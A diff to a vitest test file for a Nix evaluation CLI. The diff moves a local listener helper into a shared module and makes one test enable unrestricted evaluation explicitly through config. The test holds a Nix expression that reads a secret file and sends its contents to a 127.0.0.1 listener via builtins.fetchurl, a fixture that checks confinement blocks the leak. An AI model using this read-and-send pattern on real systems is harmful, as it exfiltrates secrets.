@@ -1,11 +1,10 @@
 import { spawnSync } from 'node:child_process';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import path from 'node:path';
-import { describe, expect, it, onTestFinished } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { BIN } from '../helpers/cli.js';
 import { deployment, STALE } from '../helpers/expressions.js';
 import { config, expectCleanError, faultRepo, processesMentioning, REPO, runCli, snapshot } from '../helpers/faults.js';
+import { listener } from '../helpers/listener.js';
 import { nixVariants } from '../helpers/nix.js';
 import { until } from '../helpers/pause.js';
 import { tempDir, testEnv, writeFiles } from '../helpers/repo.js';
@@ -21,18 +20,6 @@ in derivation { name = "x-\${toString (f 10)}"; inherit system; builder = "/bin/
 const image = (body: string) => `{ system ? builtins.currentSystem }:
 derivation { name = "app"; inherit system; builder = "/bin/sh"; args = [ "-c" "echo > $out" ]; ${body} }
 `;
-
-/** A listener on 127.0.0.1 that records what it is asked, stopped when the test ends. */
-async function listener(): Promise<{ port: number; requests: string[] }> {
-  const requests: string[] = [];
-  const server = createServer((request, response) => {
-    requests.push(request.url ?? '');
-    response.end('x');
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  onTestFinished(() => new Promise<void>((resolve) => server.close(() => resolve())));
-  return { port: (server.address() as AddressInfo).port, requests };
-}
 
 /** Whether Nix is running for a run in `dir` (the evaluation under test never ends by itself). */
 const nixRunsIn = (dir: string) => () => processesMentioning(dir).some((line) => line.includes('nix-instantiate'));
@@ -102,8 +89,8 @@ describe.each(nixVariants())('Nix under faults ($name)', ({ env }) => {
     writeFiles(path.dirname(secret), { 'secret.txt': 's3cret' });
     const leak = image(`src = builtins.fetchurl "http://127.0.0.1:${port}/x?leak=\${builtins.readFile ${secret}}";`);
 
-    // Unrestricted (the default), the expression reads and sends it: the listener would see it.
-    const open = faultRepo({ 'default.nix': leak });
+    // Unrestricted (configured so: confinement is the default), the expression reads and sends it.
+    const open = faultRepo({ 'default.nix': leak, '.nixtagrc.yaml': config('evaluation:\n  restrictEval: false\n') });
     await runCli(open.dir, ['check'], env);
     expect(requests).toEqual(['/x?leak=s3cret']);
     requests.length = 0;
